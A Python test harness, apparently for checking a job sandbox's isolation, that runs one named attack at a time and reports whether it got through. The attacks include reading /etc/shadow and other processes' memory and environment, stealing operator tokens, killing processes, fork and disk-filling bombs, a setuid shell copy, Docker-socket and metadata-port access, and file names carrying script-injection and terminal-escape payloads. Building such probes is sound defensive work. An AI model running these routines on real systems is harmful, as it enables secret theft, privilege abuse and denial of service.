"""One hostile job: `python3 -I attack.py NAME`, beside `targets.json`, which says where things are.

Prints one line: REACHED, or REFUSED with the error that was met. What was read is left as `taken`, for the
judge to see whether it is the real thing. Nothing is sent to an address that is not this machine's, and what
would break the machine if it worked is tried without the last step. Standard library only, from Python 3.9
on: it runs where a sandbox lets it.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "x86_64": {"add_key": 248, "bpf": 321, "io_uring_setup": 425, "perf_event_open": 298},
    "aarch64": {"add_key": 217, "bpf": 280, "io_uring_setup": 425, "perf_event_open": 241},
}
PTRACE_SEIZE = 0x4206
TIOCSTI = 0x5412
AF_VSOCK = 40
MIB = 1 << 20


def main() -> None:
    signal.alarm(60)  # What hangs must not stay.
    name = sys.argv[1]
    targets = json.loads(Path("targets.json").read_bytes())
    try:
        ATTACKS[name](targets)
    except (OSError, subprocess.CalledProcessError) as error:
        print(f"REFUSED {name}: {error}"[:500], flush=True)
    else:
        print(f"REACHED {name}", flush=True)


def check(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def kernel_call(name: str, *arguments: Any) -> int:
    number = CALLS.get(os.uname().machine, {}).get(name)
    if number is None:
        raise OSError(errno.ENOSYS, f"{name}: not known for this machine")
    return check(LIBC.syscall(number, *arguments))


def take(path: str | Path) -> None:
    with open(path, "rb") as file:
        Path("taken").write_bytes(file.read(MIB))


def refuse(why: str) -> None:
    raise OSError(errno.EPERM, why)


# ---------------------------------------------------------------------- what is read


def read_arguments(targets: Any) -> None:
    """Of whoever is listed, and of one whose number is known."""
    for number in (*map(int, filter(str.isdigit, os.listdir("/proc"))), targets["victim"]):
        with suppress(OSError):
            said = Path(f"/proc/{number}/cmdline").read_bytes()
            if targets["victim_word"].encode() in said:
                Path("taken").write_bytes(said)
                return
    refuse("no other process is seen")


def list_jobs(targets: Any) -> None:
    """There may be nothing but the script's own."""
    place, key = os.path.split(targets["bystander"])
    if key not in os.listdir(place):
        refuse("the others are not listed")


def read_memory(number: int) -> None:
    with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
        memory.seek(int(maps.readline().split("-")[0], 16))
        Path("taken").write_bytes(memory.read(64))


def read_memory_by_call(number: int) -> None:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    with open(f"/proc/{number}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    buffer = ctypes.create_string_buffer(64)
    mine = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    there = Vector(start, 64)
    check(LIBC.process_vm_readv(number, ctypes.byref(mine), 1, ctypes.byref(there), 1, 0))


def trace(number: int) -> None:
    check(LIBC.ptrace(PTRACE_SEIZE, number, None, None))


def read_descriptors(number: int) -> None:
    for name in os.listdir(f"/proc/{number}/fd"):
        os.readlink(f"/proc/{number}/fd/{name}")


def read_kernel_log(_: Any) -> None:
    handle = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    os.read(handle, 8192)


# ---------------------------------------------------------------------- what is written


def make_nameless(directory: str) -> None:
    """A file that is never seen: proof enough, and nothing is left in a system's directory."""
    try:
        os.close(os.open(directory, os.O_TMPFILE | os.O_WRONLY))
    except OSError as error:
        if error.errno != errno.EOPNOTSUPP:
            raise


def open_for_writing(path: str | Path) -> None:
    os.close(os.open(path, os.O_RDWR))


def append(path: str) -> None:
    with open(path, "ab") as file:
        file.write(b"defaced")


def change_own_record(_: Any) -> None:
    above = Path.cwd().parent
    with suppress(OSError):
        (above / "forged").touch()
        time.sleep(1)  # for the judge to see whether it is really there
        (above / "forged").unlink()
    opened = []
    for name in ("record.json", "run", "running", "received.json", "stdout.log"):
        with suppress(OSError):
            open_for_writing(above / name)
            opened.append(name)
    if not opened:
        refuse("none of them can be opened")
    print("opened", *opened)


def change_times(path: str) -> None:
    os.utime(path, (1, 1))


def link_into_results(path: str) -> None:
    os.link(path, "taken")


def leave_setuid(_: Any) -> None:
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o4755)
    if not os.stat("shell").st_mode & 0o4000:
        refuse("the bit is gone")
    time.sleep(2)  # for the judge to see whose it is


def swap(targets: Any) -> None:
    """A directory of the results is a link to somebody else's again and again, while they are read."""
    os.mkdir("real")
    Path("real/bait").write_bytes(b"mine")
    os.symlink(os.path.dirname(targets["bait"]), "link")
    os.rename("real", "swapped")
    until = time.monotonic() + 3
    while time.monotonic() < until:
        os.rename("swapped", "real")
        os.rename("link", "swapped")
        os.rename("swapped", "link")
        os.rename("real", "swapped")


# ---------------------------------------------------------------------- other processes


def kill_all(_: Any) -> None:
    os.kill(-1, signal.SIGKILL)


def kill_watcher(_: Any) -> None:
    os.kill(os.getppid(), signal.SIGKILL)


def reach_by_signal(number: int) -> None:
    os.kill(number, signal.SIGUSR1)


def limit_watcher(_: Any) -> None:
    """By the limit that it has: who can do so can lower it, for it and for jobs that come to it later."""
    watcher, limit = os.getppid(), resource.RLIMIT_NOFILE
    resource.prlimit(watcher, limit, resource.prlimit(watcher, limit))


def lower_priority(number: int) -> None:
    os.setpriority(os.PRIO_PROCESS, number, 19)


def leave_daemon(targets: Any) -> None:
    """Detached as well as it can be. It would stay for as long as the judge looks, and no longer."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 100)
            os.chdir("/")
            word = targets["daemon_word"]
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.execv("/bin/sh", ["sh", "-c", "trap '' TERM HUP; sleep 120; :", word])
        os._exit(0)
    time.sleep(0.2)


def bomb(targets: Any) -> None:
    """Bounded: twice what is allowed, and each child ends by itself."""
    started = 0
    for _ in range(2 * targets["processes"]):
        if os.fork() == 0:
            signal.alarm(30)
            signal.pause()
        started += 1
    time.sleep(1)
    print("started", started)


# ---------------------------------------------------------------------- the network


def connect(port: int, host: str = "127.0.0.1") -> None:
    with socket.create_connection((host, port), 10) as made:
        made.sendall(b"GET / HTTP/1.0\r\n\r\n")


def send_udp(port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"hostile", ("127.0.0.1", port))


def connect_unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(path)
        made.sendall(b"hostile")


def send_datagram(path: str) -> None:
    """By one of a pair, which can always be made: it sends to others, too, if it is for datagrams."""
    for made in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM):
        with made:
            made.sendto(b"hostile", path)


def listen(port: int) -> None:
    """Until somebody comes, who is told that it is this one."""
    with socket.create_server(("127.0.0.1", port)) as server:
        server.settimeout(5)
        with server.accept()[0] as made:
            made.sendall(b"hostile")


def use_vsock(_: Any) -> None:
    """To this machine itself, never to the one that it may run on."""
    with socket.socket(AF_VSOCK) as made, suppress(ConnectionError, TimeoutError):
        made.settimeout(2)
        made.connect((1, 9999))


def listen_to_all(_: Any) -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


# ---------------------------------------------------------------------- the kernel


def make_namespaces(_: Any) -> None:
    subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True)


def mount(_: Any) -> None:
    os.mkdir("mounted")
    check(LIBC.mount(b"none", b"mounted", b"tmpfs", 0, None))
    check(LIBC.umount2(b"mounted", 2))


def add_key(_: Any) -> None:
    kernel_call("add_key", b"user", b"hostile", b"x", 1, -1)  # the keyring of this thread, which goes with it


def load_bpf(_: Any) -> None:
    attributes = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # a map: an array of one number
    os.close(kernel_call("bpf", 0, attributes, 128))


def use_io_uring(_: Any) -> None:
    os.close(kernel_call("io_uring_setup", 1, ctypes.create_string_buffer(120)))


def measure_kernel(_: Any) -> None:
    attributes = (ctypes.c_uint32 * 32)(1, 128)  # a software counter, of the whole machine
    os.close(kernel_call("perf_event_open", attributes, -1, 0, -1, 0))


def read_kernel_places(_: Any) -> None:
    """What only root may read in `/proc`."""
    if not Path("/proc/vmallocinfo").read_bytes():
        refuse("there is nothing in it")


def change_device(_: Any) -> None:
    """To the mode that it has: who can do so can close it to everybody."""
    for what in ("/dev/null", 0):
        with suppress(PermissionError):
            os.chmod(what, stat.S_IMODE(os.stat(what).st_mode))
            return
    refuse("it is not its own")


def make_device(_: Any) -> None:
    """One without harm: who can make and open this one can do so with each."""
    os.mknod("null", 0o20600, os.makedev(1, 3))
    try:
        os.close(os.open("null", os.O_RDONLY))
    finally:
        os.unlink("null")


def change_kernel(_: Any) -> None:
    open_for_writing("/proc/sys/kernel/core_pattern")


def become_root(_: Any) -> None:
    said = dict(
        line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line
    )
    if int(said["CapEff"], 16) >> 21 & 1:  # CAP_SYS_ADMIN
        return
    if said["NoNewPrivs"].strip() == "1":
        refuse("programs like su gain nothing here")
    found = [path for path in ("/bin/su", "/usr/bin/sudo") if os.path.exists(path)]
    if not any(os.stat(path).st_mode & 0o4000 for path in found):
        refuse("there is no program like su")


def type_into_terminal(path: str) -> None:
    handle = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.write(handle, b"hostile\n")
    with suppress(OSError):
        fcntl.ioctl(handle, TIOCSTI, b"x")


def leave_cgroup(_: Any) -> None:
    """To the top, where nothing is counted."""
    met = refused = 0
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        before, _, after = line.partition(" - ")
        if after.split()[0] in ("cgroup", "cgroup2"):
            met += 1
            try:
                open_for_writing(before.split()[4] + "/cgroup.procs")
            except OSError:
                refused += 1
    if met == refused:
        refuse("no cgroup can be written")


# ---------------------------------------------------------------------- more than its share


def fill_memory(targets: Any) -> None:
    """Bounded: twice what is allowed."""
    held = []
    for _ in range(2 * targets["memory"] // MIB):
        piece = mmap.mmap(-1, MIB)
        piece.write(b"x" * MIB)
        held.append(piece)
    time.sleep(3)


def fill_disk(targets: Any) -> None:
    """Bounded: twice what is allowed."""
    with open("filler", "wb") as file:
        for _ in range(2 * targets["disk"] // MIB):
            file.write(b"x" * MIB)
        file.flush()
        time.sleep(10)
    os.unlink("filler")


def fill_disk_unseen(targets: Any) -> None:
    """Bounded: twice what is allowed, in a file that has no name."""
    with open("filler", "wb") as file:
        os.unlink("filler")
        for _ in range(2 * targets["disk"] // MIB):
            file.write(b"x" * MIB)
        file.flush()
        time.sleep(10)


def fill_inodes(targets: Any) -> None:
    """Bounded: twice what is allowed."""
    os.mkdir("many")
    for number in range(2 * targets["disk"] // 4096):
        os.close(os.open(f"many/{number}", os.O_CREAT | os.O_WRONLY))
    time.sleep(10)
    shutil.rmtree("many")


def fill_shared_memory(targets: Any) -> None:
    """Bounded: twice what is allowed."""
    path = f"/dev/shm/{targets['shm_word']}-filler"
    with open(path, "wb") as file:
        os.unlink(path)
        for _ in range(2 * targets["memory"] // MIB):
            file.write(b"x" * MIB)
        file.flush()
        time.sleep(3)


def burn(targets: Any) -> None:
    until = time.process_time() + 3 * targets["cpu_seconds"]
    while time.process_time() < until:
        pass


def leave_in_shared_memory(targets: Any) -> None:
    Path(f"/dev/shm/{targets['shm_word']}").write_bytes(b"left")


def leave_segment(targets: Any) -> None:
    check(LIBC.shmget(targets["segment"], 4096, 0o1600))


# ---------------------------------------------------------------------- what is left to be collected


def leave_many(targets: Any) -> None:
    for number in range(targets["files"] + 100):
        Path(f"f{number}").touch()


def leave_million(_: Any) -> None:
    """Half of them in one directory, half in a thousand."""
    signal.alarm(0)
    os.mkdir("flat")
    for number in range(500_000):
        os.close(os.open(f"flat/{number}", os.O_CREAT | os.O_WRONLY))
    for outer in range(1000):
        os.mkdir(f"{outer}")
        for number in range(500):
            os.close(os.open(f"{outer}/{number}", os.O_CREAT | os.O_WRONLY))


def leave_special(_: Any) -> None:
    os.mkfifo("fifo")
    with suppress(OSError), socket.socket(socket.AF_UNIX) as made:
        made.bind("socket")
    with suppress(OSError):
        os.mknod("device", 0o20666, os.makedev(1, 3))
    os.symlink("/etc/passwd", "out")
    os.symlink("circle", "circle")


def leave_deep(_: Any) -> None:
    for _ in range(2500):
        os.mkdir("deep")
        os.chdir("deep")


def leave_sparse(_: Any) -> None:
    """More than is collected, and next to nothing on disk."""
    with open("sparse", "wb") as file:
        file.truncate(1 << 40)


def leave_long_logs(_: Any) -> None:
    line = b"x" * 1023 + b"\n"
    for _ in range(16):
        for stream in (1, 2):
            os.write(stream, line * 1024)


def leave_odd_names(_: Any) -> None:
    for name in (
        b"<script>alert(1)</script>",
        b"\x1b[2J\x1b]0;owned\x07",
        b"two\nlines",
        b'=cmd|"/c calc"',
        b"\xff",
    ):
        with suppress(OSError):
            open(name, "wb").close()
    print("\x1b]0;owned\x07<img src=x onerror=alert(1)>\r\n=1+1")


def lock_away(_: Any) -> None:
    os.mkdir("closed")
    Path("closed/file").touch()
    os.chmod("closed", 0)
    os.chmod(".", 0)


ATTACKS: dict[str, Callable[[Any], object]] = {
    "shadow": lambda _: take("/etc/shadow"),
    "job-input": lambda it: take(f"{it['bystander']}/work/secret.txt"),
    "job-home": lambda it: take(f"{it['bystander']}/home/secret.txt"),
    "job-result": lambda it: take(it["result"]),
    "jobs-listed": list_jobs,
    "ledger": lambda it: take(it["ledger"]),
    "operator-token": lambda it: take(it["operator_token"]),
    "node-secret": lambda it: take(it["node_secret"]),
    "private-file": lambda it: take(it["bait"]),
    "open-file": lambda it: take(it["open_bait"]),
    "arguments": read_arguments,
    "environment-node": lambda it: take(f"/proc/{it['node']}/environ"),
    "environment-server": lambda it: take(f"/proc/{it['server']}/environ"),
    "environment-other": lambda it: take(f"/proc/{it['victim']}/environ"),
    "environment-watcher": lambda _: take(f"/proc/{os.getppid()}/environ"),
    "memory-node": lambda it: read_memory(it["node"]),
    "memory-server": lambda it: read_memory(it["server"]),
    "memory-other": lambda it: read_memory(it["victim"]),
    "memory-call": lambda it: read_memory_by_call(it["victim"]),
    "descriptors": lambda it: read_descriptors(it["node"]),
    "trace-node": lambda it: trace(it["node"]),
    "trace-other": lambda it: trace(it["victim"]),
    "trace-watcher": lambda _: trace(os.getppid()),
    "kernel-log": read_kernel_log,
    "write-etc": lambda _: make_nameless("/etc"),
    "write-usr": lambda _: make_nameless("/usr"),
    "write-tmp": lambda it: Path(it["tmp_file"]).touch(exist_ok=False),
    "write-data": lambda it: Path(it["data_file"]).touch(exist_ok=False),
    "write-ledger": lambda it: open_for_writing(it["ledger"]),
    "write-job": lambda it: append(f"{it['bystander']}/work/notes.txt"),
    "own-record": change_own_record,
    "mode": lambda it: os.chmod(it["victim_file"], 0o777),
    "owner": lambda it: os.chown(it["victim_file"], 12345, 12345),
    "times": lambda it: change_times(it["victim_file"]),
    "attribute": lambda it: os.setxattr(it["victim_file"], "user.hostile", b"x"),
    "rename": lambda it: os.rename(it["rename_file"], it["rename_file"] + "-renamed"),
    "truncate": lambda it: os.truncate(it["open_file"], 0),
    "hard-link": lambda it: link_into_results(it["bait"]),
    "symbolic-link": lambda it: os.symlink(it["bait"], "taken"),
    "swap": swap,
    "setuid-left": leave_setuid,
    "kill-all": kill_all,
    "kill-watcher": kill_watcher,
    "signal-node": lambda it: os.kill(it["node"], 0),
    "signal-other": lambda it: reach_by_signal(it["victim"]),
    "limit-watcher": limit_watcher,
    "priority": lambda it: lower_priority(it["victim"]),
    "daemon": leave_daemon,
    "bomb": bomb,
    "tcp-orchestrator": lambda it: connect(it["server_port"]),
    "tcp-node": lambda it: connect(it["node_port"]),
    "metadata": lambda it: connect(it["metadata_port"], it["metadata_host"]),
    "udp": lambda it: send_udp(it["udp_port"]),
    "docker": lambda it: connect_unix(it["docker_socket"]),
    "datagram": lambda it: send_datagram(it["log_socket"]),
    "abstract": lambda it: connect_unix("\0" + it["abstract_socket"]),
    "listen": lambda it: listen(it["free_port"]),
    "vsock": use_vsock,
    "packets": listen_to_all,
    "namespaces": make_namespaces,
    "mount": mount,
    "keys": add_key,
    "bpf": load_bpf,
    "io-uring": use_io_uring,
    "perf": measure_kernel,
    "device": make_device,
    "device-mode": change_device,
    "kernel-places": read_kernel_places,
    "kernel-settings": change_kernel,
    "root": become_root,
    "terminal": lambda it: type_into_terminal(it["terminal"]),
    "cgroup": leave_cgroup,
    "fill-memory": fill_memory,
    "fill-disk": fill_disk,
    "fill-disk-unseen": fill_disk_unseen,
    "fill-inodes": fill_inodes,
    "fill-shm": fill_shared_memory,
    "burn": burn,
    "shm-left": leave_in_shared_memory,
    "segment-left": leave_segment,
    "many-files": leave_many,
    "million-files": leave_million,
    "special-files": leave_special,
    "deep-tree": leave_deep,
    "sparse-file": leave_sparse,
    "long-logs": leave_long_logs,
    "odd-names": leave_odd_names,
    "locked-directory": lock_away,
}


if __name__ == "__main__":
    main()
